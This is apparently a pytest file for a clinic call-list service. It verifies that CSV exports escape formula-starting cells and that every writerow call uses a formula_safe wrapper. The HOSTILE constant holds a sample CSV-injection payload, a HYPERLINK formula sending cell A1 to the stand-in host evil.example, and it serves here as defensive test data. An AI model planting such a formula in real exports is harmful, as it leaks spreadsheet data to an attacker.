"""Every CSV the service writes is safe to open in Excel: a cell starting with = + - @, a tab or a CR gets a
leading apostrophe (Excel's "this is text" mark, which it does not show), so nobody's formula runs on the
clinic's computer. A phone written +7… stays readable: as text, not turned into the number 7,92E+10."""

from __future__ import annotations

import ast
import csv
import io
from datetime import UTC, date, datetime
from pathlib import Path

from dialer.cli.lists import export_outcomes, export_recalls
from dialer.settings import parse_settings
from dialer.storage import journal_schema, schema
from dialer.storage.repository import Storage
from tests.people_db import Db

PACKAGE = Path(__file__).resolve().parents[2] / "dialer"
AT = datetime(2026, 12, 3, 7, 0, tzinfo=UTC)
HOSTILE = '=HYPERLINK("http://evil.example/?d="&A1,"Подробнее")'


def rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


async def test_the_kos_export_neutralises_formula_cells_and_keeps_phones_readable(database_url: str) -> None:
    settings = parse_settings({"service": {"database_url": database_url}})
    storage = await Storage.open(settings.service.db_url)
    try:
        await Db(storage.engine).add(
            journal_schema.recalls,
            clinic_id="c1",
            external_id="@K-1",
            patient_id="-P-1",
            patient_name="Смирнова Анна",
            phone="+79161234567",
            doctor="Петров А. Н.",
            target_day=date(2026, 12, 3),
            status="call",
            reason="+7 916 123-45-67 просила перезвонить",
            status_comment=HOSTILE,
            created_at=AT,
            updated_at=AT,
        )
    finally:
        await storage.close()
    out = io.StringIO()

    assert await export_recalls(settings, None, out) == 0

    [row] = rows(out.getvalue())
    assert row["comment"] == "'" + HOSTILE
    assert row["reason"] == "'+7 916 123-45-67 просила перезвонить"
    assert (row["recall_id"], row["patient_id"]) == ("'@K-1", "'-P-1")
    assert row["doctor"] == "Петров А. Н." and row["moves"] == "0" and row["target_date"] == "2026-12-03"


async def test_the_outcomes_export_neutralises_formula_cells(database_url: str) -> None:
    settings = parse_settings(
        {
            "service": {"database_url": database_url},
            "clinics": [{"id": "c1", "name": "Клиника", "timezone": "Europe/Moscow"}],
        }
    )
    storage = await Storage.open(settings.service.db_url)
    try:
        await Db(storage.engine).add(
            schema.appointments,
            clinic_id="c1",
            appointment_id="=1+2",
            patient_id="P-1",
            visit_at=AT,
            visit_day=AT.date(),
            doctor="Петров А. Н.",
            imported_at=AT,
            updated_at=AT,
        )
    finally:
        await storage.close()
    out = io.StringIO()

    assert await export_outcomes(settings, AT.date(), None, out) == 0

    [row] = rows(out.getvalue())
    assert row["appointment_id"] == "'=1+2" and row["visit_time"] == "10:00" and row["attempts"] == "0"


def test_every_csv_row_the_service_writes_goes_through_formula_safe() -> None:
    """A new export cannot forget it: every `writerow(...)` in dialer/ wraps its cells in formula_safe."""
    unsafe = []
    for path in sorted(PACKAGE.rglob("*.py")):
        source = path.read_text(encoding="utf-8")
        for node in ast.walk(ast.parse(source)):
            if (
                isinstance(node, ast.Call)
                and isinstance(node.func, ast.Attribute)
                and node.func.attr == "writerow"
            ):
                call = ast.get_source_segment(source, node) or ""
                header = (
                    node.args
                    and isinstance(node.args[0], ast.List)
                    and all(isinstance(e, (ast.Constant, ast.Starred)) for e in node.args[0].elts)
                )
                header = header or (
                    node.args and isinstance(node.args[0], ast.Name) and node.args[0].id.isupper()
                )
                if "formula_safe" not in call and not header:
                    unsafe.append(f"{path.relative_to(PACKAGE.parent)}:{node.lineno}: {call[:80]}")
    assert unsafe == []
